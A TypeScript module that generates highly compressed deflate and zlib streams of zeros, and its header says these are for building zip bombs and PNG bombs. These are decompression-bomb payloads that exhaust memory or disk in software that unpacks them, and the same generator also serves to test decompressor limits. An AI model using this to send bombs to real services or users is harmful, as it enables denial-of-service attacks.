/**
 * Compressed zeros for zip bombs and PNG bombs, made without touching the
 * bytes they expand to: one fixed-Huffman deflate block holding a literal 0
 * and then back-references of 258 bytes at distance 1 (13 bits each), so
 * 1 GiB of zeros takes 6.8 MB and a few milliseconds to write.
 * Reference: RFC 1951 section 3.2.6 (fixed Huffman codes), RFC 1950 (zlib).
 */
class BitWriter {
  private out: number[] = [];
  private acc = 0;
  private n = 0;

  /** Writes `count` bits of `value`, least significant first (deflate's order for extra bits and headers). */
  bits(value: number, count: number): void {
    for (let i = 0; i < count; i++) this.bit((value >>> i) & 1);
  }

  /** Writes a Huffman code, most significant bit first. */
  code(value: number, count: number): void {
    for (let i = count - 1; i >= 0; i--) this.bit((value >>> i) & 1);
  }

  private bit(b: number): void {
    this.acc |= b << this.n;
    if (++this.n === 8) {
      this.out.push(this.acc);
      this.acc = 0;
      this.n = 0;
    }
  }

  finish(): Uint8Array {
    if (this.n) this.out.push(this.acc);
    return Uint8Array.from(this.out);
  }
}

/** Fixed-code length symbols (257–285) and their extra bits, for a match length 3–258. */
function lengthCode(len: number): { symbol: number; extra: number; extraBits: number } {
  if (len === 258) return { symbol: 285, extra: 0, extraBits: 0 };
  const bases = [3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99, 115, 131, 163, 195, 227];
  const extraBits = [0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 2, 2, 2, 2, 3, 3, 3, 3, 4, 4, 4, 4, 5, 5, 5, 5];
  let i = bases.length - 1;
  while (bases[i] > len) i--;
  return { symbol: 257 + i, extra: len - bases[i], extraBits: extraBits[i] };
}

/** The fixed Huffman code of a literal/length symbol. */
function writeSymbol(w: BitWriter, s: number): void {
  if (s < 144) w.code(0x30 + s, 8);
  else if (s < 256) w.code(0x190 + s - 144, 9);
  else if (s < 280) w.code(s - 256, 7);
  else w.code(0xc0 + s - 280, 8);
}

/** Raw deflate of `size` zero bytes (size ≥ 1). */
export function deflateZeros(size: number): Uint8Array {
  const w = new BitWriter();
  w.bits(1, 1); // final block
  w.bits(1, 2); // fixed Huffman codes
  writeSymbol(w, 0);
  let left = size - 1;
  while (left > 0) {
    if (left < 3) {
      writeSymbol(w, 0);
      left--;
      continue;
    }
    // Never leave a remainder of 1 or 2: a match is at least 3 bytes long.
    let len = Math.min(258, left);
    if (left - len > 0 && left - len < 3) len -= 3;
    const c = lengthCode(len);
    writeSymbol(w, c.symbol);
    w.bits(c.extra, c.extraBits);
    w.code(0, 5); // distance code 0: distance 1
    left -= len;
  }
  writeSymbol(w, 256); // end of block
  return w.finish();
}

/** The same zeros in a zlib wrapper (a PNG's IDAT), with its Adler-32: a = 1, b = size mod 65521. */
export function zlibZeros(size: number): Uint8Array {
  const body = deflateZeros(size);
  const out = new Uint8Array(2 + body.length + 4);
  out[0] = 0x78;
  out[1] = 0x01;
  out.set(body, 2);
  const adler = ((size % 65521) * 65536 + 1) >>> 0;
  new DataView(out.buffer).setUint32(2 + body.length, adler, false);
  return out;
}
